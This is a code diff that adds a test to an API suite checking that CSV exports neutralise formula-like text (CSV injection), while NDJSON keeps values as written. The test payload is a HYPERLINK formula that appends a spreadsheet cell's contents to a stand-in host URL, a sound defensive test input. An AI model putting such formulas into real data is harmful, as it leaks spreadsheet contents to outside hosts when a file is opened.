@@ -231,6 +231,32 @@ async def test_export_csv_and_ndjson_match_the_list(api_env: ApiEnv) -> None:
     assert [r["id"] for r in rows] == [api_env.seeded["episode_ids"][0]]
 
 
+async def test_the_csv_export_hands_a_spreadsheet_text_not_formulas(api_env: ApiEnv) -> None:
+    # an operator's comment is free text: opened in a spreadsheet, the CSV must show it,
+    # not run it (CSV injection); the NDJSON export keeps it as written
+    episode = api_env.seeded["episode_ids"][1]
+    comment = '=HYPERLINK("http://example.invalid/?"&A2,"details")'
+    op = auth(api_env.tokens.role("operator", sub="@oscar"))
+    r = await api_env.client.post(
+        f"/v1/anomalies/{episode}/ack", json={"comment": comment}, headers=op
+    )
+    assert r.status_code == 200, r.text
+    exported = await api_env.client.get(
+        "/v1/anomalies/export", params={"format": "csv"}, headers=viewer(api_env)
+    )
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    row = next(r for r in rows if r["id"] == episode)
+    assert row["ack_comment"] == "'" + comment
+    assert row["acknowledged_by"] == "'@oscar"
+    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@"]
+    ndjson = await api_env.client.get(
+        "/v1/anomalies/export", params={"format": "ndjson"}, headers=viewer(api_env)
+    )
+    lines = [orjson.loads(line) for line in ndjson.content.splitlines()]
+    kept = next(x for x in lines if x["id"] == episode)
+    assert (kept["ack_comment"], kept["acknowledged_by"]) == (comment, "@oscar")
+
+
 async def test_ack_and_label_are_stored_and_label_is_published(api_env: ApiEnv) -> None:
     episode = api_env.seeded["episode_ids"][3]
     op = auth(api_env.tokens.role("operator", sub="olga"))
